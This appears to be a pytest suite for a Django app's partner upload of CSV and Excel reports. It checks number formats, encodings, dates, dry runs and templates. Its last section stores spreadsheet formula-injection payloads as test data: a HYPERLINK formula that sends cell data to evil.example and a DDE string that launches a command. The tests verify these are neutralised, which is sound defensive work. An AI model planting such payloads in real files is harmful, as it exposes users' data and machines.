"""The reporting upload reads the files partners really have.

A corpus built here with the libraries that write such files (openpyxl, Python's csv and
codecs), no binary fixtures: every accepted file is checked against the exact values
stored, every refused one for its file, sheet, row, column, value and reason, and for
not a single Observation written."""

import csv
import datetime
import io
from decimal import Decimal as D

import pytest
from auditlog.models import LogEntry
from django.utils import translation
from openpyxl import Workbook

from pilotage.accounts.tests.factories import PartnerEditorFactory, SteeringFactory
from pilotage.core.datafiles import DataFileError
from pilotage.indicators import campaigns
from pilotage.indicators.models import Observation
from pilotage.indicators.tests.factories import IndicatorFactory
from pilotage.strategies.tests.factories import ActionFactory
from pilotage.taxonomies.tests.factories import TaxonomyFactory, TermFactory

pytestmark = pytest.mark.django_db

Q3 = {"period_start": datetime.date(2026, 7, 1), "period_end": datetime.date(2026, 9, 30)}


@pytest.fixture(autouse=True)
def english():
    """The reasons are checked in English, whatever the catalogues say."""
    with translation.override("en"):
        yield


@pytest.fixture
def campaign():
    return campaigns.campaign_open(
        actor=SteeringFactory(),
        code="2026-Q3",
        title="Troisième trimestre 2026",
        deadline=datetime.date(2026, 10, 15),
        **Q3,
    )


@pytest.fixture
def partner():
    return PartnerEditorFactory()


@pytest.fixture
def indicators(partner):
    """A count of fund raisings, an amount, a rate in percent and a text."""
    action = ActionFactory(lead=partner.organisation)
    return {
        "COUNT": IndicatorFactory(action=action, code="COUNT", unit_fr="levées de fonds"),
        "AMT": IndicatorFactory(action=action, code="AMT", unit_fr="EUR", measure="amount"),
        "PCT": IndicatorFactory(action=action, code="PCT", unit_fr="%", measure="percentage"),
        "TXT": IndicatorFactory(action=action, code="TXT", measure="text", target_value=None),
    }


def csv_bytes(rows, *, delimiter=";", encoding="utf-8") -> bytes:
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=delimiter, lineterminator="\r\n").writerows(rows)
    return buffer.getvalue().encode(encoding)


def xlsx_bytes(workbook: Workbook) -> bytes:
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def upload(partner, campaign, name, content, **kwargs):
    return campaigns.campaign_upload(
        actor=partner, campaign=campaign, name=name, content=content, **kwargs
    )


def stored() -> dict[str, D]:
    """What the database holds: indicator code to value (text for a text indicator)."""
    return {
        code: text or value
        for code, value, text in Observation.objects.values_list(
            "indicator__code", "value", "text_value"
        )
    }


def refused(partner, campaign, name, content):
    """The problems of a refused upload, after checking that nothing was written."""
    with pytest.raises(DataFileError) as caught:
        upload(partner, campaign, name, content)
    assert not Observation.objects.exists()
    assert all(error.file == name for error in caught.value.errors)
    return caught.value.errors


# --- percentages ---------------------------------------------------------------------


def test_a_percent_formatted_cell_is_what_it_shows(campaign, partner, indicators):
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["indicator", "value"])
    sheet.append(["PCT", 0.45])
    sheet["B2"].number_format = "0%"
    sheet.append(["COUNT", 12])

    report = upload(partner, campaign, "q3.xlsx", xlsx_bytes(workbook))

    assert stored() == {"PCT": D(45), "COUNT": D(12)}
    assert report.counts == {"created": 2, "updated": 0, "unchanged": 0}


def test_percentages_written_in_a_csv(campaign, partner, indicators):
    upload(
        partner,
        campaign,
        "q3.csv",
        csv_bytes([["indicateur", "valeur"], ["PCT", "45,5 %"], ["AMT", "12,5"]]),
    )
    assert stored() == {"PCT": D("45.5"), "AMT": D("12.5")}

    Observation.objects.all().delete()
    upload(partner, campaign, "q3.csv", csv_bytes([["indicator", "value"], ["PCT", "45 %"]]))
    assert stored() == {"PCT": D(45)}


def test_a_count_refuses_a_percentage(campaign, partner, indicators):
    workbook = Workbook()
    workbook.active.title = "Valeurs"
    workbook.active.append(["indicator", "value"])
    workbook.active.append(["COUNT", 0.45])
    workbook.active["B2"].number_format = "0.0%"

    [error] = refused(partner, campaign, "q3.xlsx", xlsx_bytes(workbook))

    assert (error.sheet, error.record, error.column, error.value) == (
        "Valeurs",
        "row 2",
        "value",
        "45 %",
    )
    assert "is a percentage, but this indicator is measured in levées de fonds" in error.reason
    Observation.objects.all().delete()
    [error] = refused(
        partner, campaign, "q3.csv", csv_bytes([["indicator", "value"], ["COUNT", "45 %"]])
    )
    assert (error.record, error.column, error.value) == ("row 2", "value", "45 %")


# --- decimal marks -------------------------------------------------------------------


def test_thousands_with_a_dot_in_a_decimal_comma_file(campaign, partner, indicators):
    content = csv_bytes([["indicator", "value"], ["COUNT", "1.234"], ["AMT", "5.000.000,5"]])

    upload(partner, campaign, "q3.csv", content)

    assert stored() == {"COUNT": D(1234), "AMT": D("5000000.5")}


def test_thousands_with_spaces(campaign, partner, indicators):
    content = csv_bytes(
        [["indicator", "value"], ["COUNT", "1\u202f234"], ["AMT", "5\u00a0000\u00a0000,25"]]
    )
    upload(partner, campaign, "q3.csv", content)
    assert stored() == {"COUNT": D(1234), "AMT": D("5000000.25")}


def test_a_number_two_readings_give_differently_is_refused(campaign, partner, indicators):
    content = csv_bytes([["indicator", "value"], ["COUNT", "12"], ["AMT", "1.234"]])

    [error] = refused(partner, campaign, "q3.csv", content)

    assert (error.record, error.column, error.value) == ("row 3", "value", "1.234")
    assert "1234" in error.reason and "1.234 can be read as" in error.reason


# --- workbooks -----------------------------------------------------------------------


def test_formulas_without_saved_values_are_refused_by_cell(campaign, partner, indicators):
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = "Valeurs"
    sheet.append(["indicator", "value", "comment"])
    sheet.append(["COUNT", 4, "ok"])
    sheet.append(["AMT", "=B2*2", "calculé"])
    sheet.append(["PCT", "=SUM(B2:B3)", ""])
    sheet.append(['=CONCAT("T", "XT")', "Fait", ""])

    errors = refused(partner, campaign, "q3.xlsx", xlsx_bytes(workbook))

    assert [(e.sheet, e.record, e.column) for e in errors] == [
        ("Valeurs", "row 3", "value"),
        ("Valeurs", "row 4", "value"),
        ("Valeurs", "row 5", "indicator"),  # not also "indicator code missing"
    ]
    assert "cell B3 holds a formula with no saved value" in errors[0].reason
    assert "cell B4" in errors[1].reason
    assert "cell A5" in errors[2].reason


def test_the_data_sheet_is_found_whichever_sheet_is_active(campaign, partner, indicators):
    workbook = Workbook()
    instructions = workbook.active
    instructions.title = "Instructions"
    instructions.append(["Complétez l'onglet Données puis déposez le fichier."])
    instructions.append(["Une ligne par indicateur."])
    data = workbook.create_sheet("Données")
    data.append(["Indicateur", "Début de la période", "Fin de la période", "Valeur"])
    data.append(["COUNT", datetime.date(2026, 7, 1), datetime.date(2026, 9, 30), 3])
    data.append(["AMT", datetime.datetime(2026, 7, 1), datetime.datetime(2026, 9, 30), 2500.75])
    workbook.active = 0

    report = upload(partner, campaign, "q3.xlsx", xlsx_bytes(workbook))

    assert stored() == {"COUNT": D(3), "AMT": D("2500.75")}
    assert report.notes == ["The data were read from the sheet Données."]


# --- CSV as Excel and LibreOffice save it --------------------------------------------


def test_windows_1252_semicolons_with_accents(campaign, partner, indicators):
    content = csv_bytes(
        [
            ["Indicateur", "Valeur", "Commentaire"],
            ["COUNT", "7", "Donnée vérifiée – été"],
            ["TXT", "Réalisé à Liège", "ç"],
        ],
        encoding="cp1252",
    )
    with pytest.raises(UnicodeDecodeError):
        content.decode("utf-8")

    report = upload(partner, campaign, "q3.csv", content)

    assert stored() == {"COUNT": D(7), "TXT": "Réalisé à Liège"}
    assert Observation.objects.get(indicator__code="COUNT").comment == "Donnée vérifiée – été"
    assert report.notes == ["The file was read as Windows-1252 (not UTF-8)."]


@pytest.mark.parametrize(
    "start, end",
    [("01/07/2026", "30/09/2026"), ("46204", "46295"), ("2026-07-01", "30.09.2026")],
    ids=["day first", "excel serial", "iso and dots"],
)
def test_the_campaign_dates_as_people_write_them(start, end, campaign, partner, indicators):
    content = csv_bytes(
        [["indicator", "period_start", "period_end", "value"], ["COUNT", start, end, "9"]]
    )
    upload(partner, campaign, "q3.csv", content)
    assert stored() == {"COUNT": D(9)}
    observation = Observation.objects.get()
    assert (observation.period_start, observation.period_end) == tuple(Q3.values())


def test_excel_serial_dates_in_a_workbook(campaign, partner, indicators):
    workbook = Workbook()
    workbook.active.append(["indicator", "period_start", "period_end", "value"])
    workbook.active.append(["COUNT", 46204, 46295, 9])
    upload(partner, campaign, "q3.xlsx", xlsx_bytes(workbook))
    assert stored() == {"COUNT": D(9)}


def test_a_date_really_outside_the_campaign_is_refused_naming_it(campaign, partner, indicators):
    content = csv_bytes([["indicator", "period_start", "value"], ["COUNT", "01/10/2026", "9"]])

    [error] = refused(partner, campaign, "q3.csv", content)

    assert (error.record, error.column, error.value) == ("row 2", "period_start", "01/10/2026")
    assert error.reason.startswith("01/10/2026 is outside the campaign's period (01/07/2026")


def test_a_title_block_and_blank_lines(campaign, partner, indicators):
    content = (
        "Rapportage trimestriel — Région wallonne\r\n"
        "Organisation : Exemple asbl\r\n"
        "\r\n"
        "indicator;value;comment\r\n"
        "\r\n"
        "COUNT;5;\r\n"
        ";;\r\n"
        "AMT;7,25;source : comptes\r\n"
        "\r\n"
    ).encode()

    report = upload(partner, campaign, "q3.csv", content)

    assert stored() == {"COUNT": D(5), "AMT": D("7.25")}
    assert report.notes == ["The header is on row 4; the rows above it are not read."]
    assert [row.record for row in report.rows] == ["row 6", "row 8"]


def test_trailing_empty_columns(campaign, partner, indicators):
    content = csv_bytes(
        [["indicator", "value", "", "", ""], ["COUNT", "5", "", "", ""], ["AMT", "6", "", ""]]
    )
    upload(partner, campaign, "q3.csv", content)
    assert stored() == {"COUNT": D(5), "AMT": D(6)}


@pytest.mark.parametrize(
    "header",
    [
        ["Indicator", "Begin van de periode", "Einde van de periode", "Waarde", "Opmerking"],
        ["Indikator", "Beginn des Zeitraums", "Ende des Zeitraums", "Wert", "Kommentar"],
        ["Indicateur", "Début de la période", "Fin de la période", "Valeur", "Commentaire"],
        ["INDICATEUR", "debut_de_la_periode", "fin de la periode", "valeur", "commentaire"],
    ],
    ids=["nl", "de", "fr", "fr without accents"],
)
def test_headers_in_every_language(header, campaign, partner, indicators):
    content = csv_bytes([header, ["COUNT", "01/07/2026", "30/09/2026", "8", "bron"]])
    upload(partner, campaign, "q3.csv", content)
    assert stored() == {"COUNT": D(8)}
    assert Observation.objects.get().comment == "bron"


# --- rows without what they need -----------------------------------------------------


def test_a_file_without_a_data_row_is_refused(campaign, partner, indicators):
    [error] = refused(partner, campaign, "q3.csv", csv_bytes([["indicator", "value"]]))
    assert "no data row" in error.reason


def test_a_file_whose_rows_give_no_value_is_refused(campaign, partner, indicators):
    content = csv_bytes(
        [["indicator", "value", "comment"], ["COUNT", "", ""], ["AMT", "", "à faire"]]
    )
    [error] = refused(partner, campaign, "q3.csv", content)
    assert (error.column, "no row gives a value" in error.reason) == ("value", True)


def test_a_file_without_a_value_column_is_refused(campaign, partner, indicators):
    content = csv_bytes([["indicator", "comment"], ["COUNT", "5"]])
    [error] = refused(partner, campaign, "q3.csv", content)
    assert (error.record, error.column) == ("row 1", "value")
    assert "no value column" in error.reason


def test_a_row_without_its_indicator_code(campaign, partner, indicators):
    content = csv_bytes(
        [["indicator", "value", "comment"], ["COUNT", "5", ""], ["", "6", "?"], ["", "7", ""]]
    )

    errors = refused(partner, campaign, "q3.csv", content)

    assert [(e.record, e.column, e.reason) for e in errors] == [
        ("row 3", "indicator", "indicator code missing"),
        ("row 4", "indicator", "indicator code missing"),
    ]


# --- the report before anything is written -------------------------------------------


def test_a_dry_run_reports_and_writes_nothing(campaign, partner, indicators):
    upload(partner, campaign, "q3.csv", csv_bytes([["indicator", "value"], ["COUNT", "10"]]))
    before = list(Observation.objects.values_list("pk", "value", "updated_at"))
    entries = LogEntry.objects.count()
    content = csv_bytes(
        [
            ["indicator", "value", "comment"],
            ["COUNT", "12", "corrigé"],
            ["AMT", "1 500,5", ""],
            ["PCT", "", ""],
        ]
    )

    report = upload(partner, campaign, "q3.csv", content, dry_run=True)

    assert report.dry_run
    assert [(row.record, row.key, row.action, row.changes) for row in report.rows] == [
        ("row 2", "COUNT", "updated", {"value": ("10", "12"), "comment": ("", "corrigé")}),
        ("row 3", "AMT", "created", {"value": ("", "1500.5")}),
        ("row 4", "PCT", "empty", {}),
    ]
    assert report.counts == {"created": 1, "updated": 1, "unchanged": 0}
    assert list(Observation.objects.values_list("pk", "value", "updated_at")) == before
    assert LogEntry.objects.count() == entries

    # The same file for real does what the dry run said.
    upload(partner, campaign, "q3.csv", content)
    assert stored() == {"COUNT": D(12), "AMT": D("1500.5")}


def test_a_dry_run_runs_the_checks_only_the_model_makes(campaign, partner, indicators):
    content = csv_bytes([["indicator", "value"], ["COUNT", "1" * 21]])
    with pytest.raises(DataFileError) as caught:
        upload(partner, campaign, "q3.csv", content, dry_run=True)
    [error] = caught.value.errors
    assert (error.record, error.column, "digits" in error.reason) == ("row 2", "value", True)
    assert not Observation.objects.exists()


def test_a_second_upload_is_all_unchanged_and_writes_nothing(campaign, partner, indicators):
    upload(
        partner,
        campaign,
        "q3.csv",
        csv_bytes(
            [["indicator", "value", "comment"], ["COUNT", "166", "Source"], ["AMT", "0,1", ""]]
        ),
    )
    before = list(Observation.objects.values_list("pk", "value", "comment", "updated_at"))
    entries = LogEntry.objects.count()

    # The same values as Excel may write them back: trailing zeros, spaces around.
    again = csv_bytes(
        [["indicator", "value", "comment"], ["COUNT", "166,0000", " Source "], ["AMT", "0,10", ""]]
    )
    report = upload(partner, campaign, "q3.csv", again)

    assert report.counts == {"created": 0, "updated": 0, "unchanged": 2}
    assert list(Observation.objects.values_list("pk", "value", "comment", "updated_at")) == before
    assert LogEntry.objects.count() == entries


# --- the template, in the partner's language, read back ------------------------------


@pytest.fixture
def reported(campaign, partner, indicators):
    """Values of every kind stored by a partner working in French, a breakdown too.

    (Comments are translated fields: stored in French, the default, every language
    reads them back.)"""
    provinces = TaxonomyFactory(code="provinces")
    TermFactory(taxonomy=provinces, code="namur")
    TermFactory(taxonomy=provinces, code="liege")
    with translation.override("fr"):
        upload(
            partner,
            campaign,
            "q3.csv",
            csv_bytes(
                [
                    ["indicator", "value", "comment", "provinces:namur", "provinces:liege"],
                    ["COUNT", "1234", "", "1000", "234"],
                    ["AMT", "1,234", "provisoire", "", ""],
                    ["PCT", "45,5 %", "", "", ""],
                    ["TXT", "Mis en service", "", "", ""],
                ]
            ),
        )
    assert stored() == {
        "COUNT": D(1234),
        "AMT": D("1.234"),
        "PCT": D("45.5"),
        "TXT": "Mis en service",
    }


@pytest.mark.parametrize("language", ["fr", "nl", "de", "en"])
@pytest.mark.parametrize("format", ["csv", "xlsx"])
def test_the_template_reads_back_unchanged_in_every_language(
    format, language, campaign, partner, reported
):
    before = list(Observation.objects.values_list("pk", "value", "comment", "updated_at"))
    entries = LogEntry.objects.count()
    items = campaigns.due_for(partner, campaign)
    if format == "csv":
        content = campaigns.template_csv(campaign, items, language).encode()
    else:
        content = campaigns.template_xlsx(campaign, items, language)

    with translation.override(language):  # the partner's language, both ways
        report = upload(partner, campaign, f"template.{format}", content)

    assert report.counts == {"created": 0, "updated": 0, "unchanged": 4}, report.rows
    assert list(Observation.objects.values_list("pk", "value", "comment", "updated_at")) == before
    assert LogEntry.objects.count() == entries


def test_the_csv_template_is_what_excel_in_belgium_opens(campaign, partner, reported):
    items = campaigns.due_for(partner, campaign)

    text = campaigns.template_csv(campaign, items, "fr")

    assert text.startswith("\ufeff")
    lines = text[1:].splitlines()
    assert lines[0] == (
        "Indicateur;Titre;Unité;Début de la période;Fin de la période;Valeur;Numérateur;"
        "Dénominateur;Commentaire;État;provinces:liege;provinces:namur"
    )
    rows = {line.split(";")[0]: line.split(";") for line in lines[1:]}
    # "1,234" would read as 1234 or 1.234: the template writes it so it reads one way.
    assert rows["AMT"][5] == "1,2340"
    assert rows["PCT"][5] == "45,5"
    assert rows["COUNT"][5:] == ["1234", "", "", "", "Soumise", "234", "1000"]
    with translation.override("nl"):
        header = campaigns.template_csv(campaign, items)[1:].splitlines()[0]
    assert header.startswith("Indicator;Titel;Eenheid;Begin van de periode")


def test_the_workbook_template_shows_percentages_as_percentages(campaign, partner, reported):
    from openpyxl import load_workbook

    items = campaigns.due_for(partner, campaign)
    sheet = load_workbook(io.BytesIO(campaigns.template_xlsx(campaign, items, "de"))).active

    header = [cell.value for cell in sheet[1]]
    assert header[:6] == [
        "Indikator",
        "Titel",
        "Einheit",
        "Beginn des Zeitraums",
        "Ende des Zeitraums",
        "Wert",
    ]
    rows = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    assert (rows["PCT"][5].value, "%" in rows["PCT"][5].number_format) == (0.455, True)
    assert rows["AMT"][5].value == 1.234
    assert rows["COUNT"][3].value == datetime.datetime(2026, 7, 1)
    assert rows["COUNT"][9].value == "Eingereicht"


def test_a_dry_run_names_the_parts_a_breakdown_changes(campaign, partner, reported):
    content = csv_bytes(
        [
            ["indicator", "value", "provinces:namur", "provinces:liege"],
            ["COUNT", "1234", "1100", "134"],
        ]
    )

    report = upload(partner, campaign, "q3.csv", content, dry_run=True)

    [row] = report.rows
    assert (row.action, row.changes) == (
        "updated",
        {"provinces:liege": ("234", "134"), "provinces:namur": ("1000", "1100")},
    )
    parts = Observation.objects.get(indicator__code="COUNT").parts.values_list("value", flat=True)
    assert sorted(parts) == [D(234), D(1000)]


def test_a_template_with_nothing_filled_in_is_refused(campaign, partner, indicators):
    content = campaigns.template_csv(campaign, campaigns.due_for(partner, campaign), "fr")
    [error] = refused(partner, campaign, "2026-Q3.csv", content.encode())
    assert "no row gives a value" in error.reason


# --- the template never runs as a formula --------------------------------------------

FORMULAS = {
    "title": '=HYPERLINK("https://evil.example/?"&A1,"Cliquez")',
    "comment": "@SUM(1+1)*cmd|' /C calc'!A0",
}


@pytest.fixture
def booby_trapped(campaign, partner, indicators):
    """A title and comments a spreadsheet would run, stored as texts (in French)."""
    indicators["COUNT"].title_fr = FORMULAS["title"]
    indicators["COUNT"].save()
    indicators["AMT"].title_fr = "-1+2"
    indicators["AMT"].save()
    with translation.override("fr"):
        upload(
            partner,
            campaign,
            "q3.csv",
            csv_bytes(
                [
                    ["indicator", "value", "comment"],
                    ["COUNT", "12", FORMULAS["comment"]],
                    ["AMT", "-5", "+33 81 00 00 00"],
                    ["TXT", "=1+1", "\t=2+2"],
                ]
            ),
        )
    text = Observation.objects.get(indicator__code="TXT")
    assert text.text_value == "=1+1"
    text.comment_fr = "\t=2+2"  # as only the web form or the admin keep it
    text.save()
    return campaigns.due_for(partner, campaign)


def test_the_workbook_template_writes_every_text_as_text(campaign, booby_trapped):
    import zipfile

    from openpyxl import load_workbook

    content = campaigns.template_xlsx(campaign, booby_trapped, "fr")

    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        assert not any(
            b"<f>" in archive.read(name) or b"<f " in archive.read(name) for name in sheets
        )
    sheet = load_workbook(io.BytesIO(content)).active
    rows = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    texts = [rows["COUNT"][1], rows["COUNT"][8], rows["TXT"][5], rows["TXT"][8]]
    assert [cell.value for cell in texts] == [
        "'" + FORMULAS["title"],
        "'" + FORMULAS["comment"],
        "'=1+1",
        "'\t=2+2",
    ]
    assert [cell.data_type for cell in texts] == ["s"] * 4
    assert (rows["AMT"][1].value, rows["AMT"][5].value) == ("'-1+2", -5)  # a number stays one
    assert rows["AMT"][5].data_type == "n"


def test_the_csv_template_quotes_what_a_spreadsheet_would_run(campaign, booby_trapped):
    text = campaigns.template_csv(campaign, booby_trapped, "fr")

    rows = {row[0]: row for row in csv.reader(io.StringIO(text[1:]), delimiter=";")}
    assert rows["COUNT"][1] == "'" + FORMULAS["title"]
    assert rows["COUNT"][8] == "'" + FORMULAS["comment"]
    assert (rows["AMT"][1], rows["AMT"][5], rows["AMT"][8]) == ("'-1+2", "-5", "'+33 81 00 00 00")
    assert (rows["TXT"][5], rows["TXT"][8]) == ("'=1+1", "'\t=2+2")


def test_a_workbook_template_title_xml_cannot_hold_is_written_without_it(campaign):
    """A control character openpyxl refuses (a crash before) is left out, and what it
    hid is quoted like any formula."""
    from openpyxl import load_workbook

    indicator = IndicatorFactory(code="CTRL", title_fr="\x01=1+1")
    items = [campaigns.DueItem(indicator, None)]

    content = campaigns.template_xlsx(campaign, items, "fr")

    cell = load_workbook(io.BytesIO(content)).active["B2"]
    assert (cell.value, cell.data_type) == ("'=1+1", "s")


@pytest.mark.parametrize("format", ["csv", "xlsx"])
def test_a_template_with_formula_like_texts_reads_back_unchanged(
    format, campaign, partner, booby_trapped
):
    """Needs the reader to take off the quote before = + - @ of a text cell."""
    before = list(
        Observation.objects.order_by("pk").values_list("pk", "value", "text_value", "comment")
    )
    entries = LogEntry.objects.count()
    if format == "csv":
        content = campaigns.template_csv(campaign, booby_trapped, "fr").encode()
    else:
        content = campaigns.template_xlsx(campaign, booby_trapped, "fr")

    with translation.override("fr"):
        report = upload(partner, campaign, f"template.{format}", content)

    assert report.counts == {"created": 0, "updated": 0, "unchanged": 3}, report.rows
    after = Observation.objects.order_by("pk").values_list("pk", "value", "text_value", "comment")
    assert list(after) == before
    assert LogEntry.objects.count() == entries


# --- numbers Excel would round, decimals the model would round -----------------------


@pytest.mark.parametrize("language", ["fr", "en"])
def test_a_number_of_more_than_15_digits_reads_back_exactly(language, campaign, indicators):
    """Excel keeps 15 significant digits: such a number is written as text. (Read back
    through the reader: SQLite, unlike PostgreSQL, stores decimals as floats itself.)"""
    from openpyxl import load_workbook

    from pilotage.core.spreadsheets import read_table

    exact = D("1234567890123.4567")
    observation = Observation.objects.create(indicator=indicators["AMT"], value=exact, **Q3)
    items = [campaigns.DueItem(indicators["AMT"], observation)]

    content = campaigns.template_xlsx(campaign, items, language)

    cell = load_workbook(io.BytesIO(content)).active["F2"]
    mark = "," if language == "fr" else "."
    assert (cell.value, cell.data_type) == (f"1234567890123{mark}4567", "s")
    with translation.override(language):
        table = read_table("template.xlsx", content, campaigns.upload_columns())
        [row] = table.records()
        table.settle_decimal_mark([row], ["value"])
        assert row.decimal("value") == exact
    assert not table.errors


def test_more_decimal_places_than_kept_are_refused_not_rounded(campaign, partner, indicators):
    upload(partner, campaign, "q3.csv", csv_bytes([["indicator", "value"], ["AMT", "1,2346"]]))
    observation = Observation.objects.get()
    before = (observation.value, observation.updated_at)

    with pytest.raises(DataFileError) as caught:
        upload(partner, campaign, "q3.csv", csv_bytes([["indicator", "value"], ["AMT", "1,23456"]]))

    [error] = caught.value.errors
    assert (error.record, error.column, error.value) == ("row 2", "value", "1,23456")
    assert error.reason == "1,23456 has more than 4 decimal places: values are kept to 4"
    observation.refresh_from_db()
    assert (observation.value, observation.updated_at) == before
    # Trailing zeros are no places.
    report = upload(
        partner, campaign, "q3.csv", csv_bytes([["indicator", "value"], ["AMT", "1,234600"]])
    )
    assert report.counts == {"created": 0, "updated": 0, "unchanged": 1}


# --- what a row does not give is kept ------------------------------------------------


def test_a_row_keeps_what_its_file_does_not_give(campaign, partner, indicators):
    observation = Observation.objects.create(
        indicator=indicators["AMT"],
        value=D(10),
        comment="Source : comptes 2026",
        evidence_url="https://example.org/preuve.pdf",
        **Q3,
    )

    report = upload(partner, campaign, "q3.csv", csv_bytes([["indicator", "value"], ["AMT", "12"]]))

    [row] = report.rows
    assert (row.action, row.changes) == ("updated", {"value": ("10", "12")})
    observation.refresh_from_db()
    assert (observation.value, observation.comment, observation.evidence_url) == (
        D(12),
        "Source : comptes 2026",
        "https://example.org/preuve.pdf",
    )


def test_a_new_value_clears_a_ratio_that_no_longer_gives_it(campaign, partner, indicators):
    observation = Observation.objects.create(
        indicator=indicators["PCT"], numerator=D(5), denominator=D(10), value=D(50), **Q3
    )
    same = upload(partner, campaign, "q3.csv", csv_bytes([["indicator", "value"], ["PCT", "50"]]))
    assert same.counts == {"created": 0, "updated": 0, "unchanged": 1}

    report = upload(partner, campaign, "q3.csv", csv_bytes([["indicator", "value"], ["PCT", "60"]]))

    [row] = report.rows
    assert row.changes == {
        "value": ("50", "60"),
        "numerator": ("5", ""),
        "denominator": ("10", ""),
    }
    observation.refresh_from_db()
    assert (observation.value, observation.numerator, observation.denominator) == (
        D(60),
        None,
        None,
    )


def test_a_value_its_numerator_and_denominator_contradict_is_refused(campaign, partner, indicators):
    content = csv_bytes(
        [["indicator", "value", "numerator", "denominator"], ["PCT", "60", "5", "10"]]
    )
    [error] = refused(partner, campaign, "q3.csv", content)
    assert (error.column, error.value) == ("value", "60")
    assert error.reason == (
        "60 is not what the numerator and denominator give (5 / 10 = 50): correct one or the other"
    )


def test_a_new_total_without_its_breakdown_is_refused(campaign, partner, reported):
    observation = Observation.objects.get(indicator__code="COUNT")
    before = (observation.value, observation.updated_at)

    for dry_run in (True, False):
        with pytest.raises(DataFileError) as caught:
            upload(
                partner,
                campaign,
                "q3.csv",
                csv_bytes([["indicator", "value"], ["COUNT", "1300"]]),
                dry_run=dry_run,
            )
        [error] = caught.value.errors
        assert (error.record, error.column, error.value) == ("row 2", "value", "1300")
        assert error.reason.startswith("The stored breakdown adds up to 1234, not to 1300")

    observation.refresh_from_db()
    assert (observation.value, observation.updated_at) == before
    assert sorted(observation.parts.values_list("value", flat=True)) == [D(234), D(1000)]
    # The same total without its breakdown columns leaves the parts alone.
    same = upload(
        partner, campaign, "q3.csv", csv_bytes([["indicator", "value"], ["COUNT", "1234"]])
    )
    assert same.counts == {"created": 0, "updated": 0, "unchanged": 1}
    assert sorted(observation.parts.values_list("value", flat=True)) == [D(234), D(1000)]
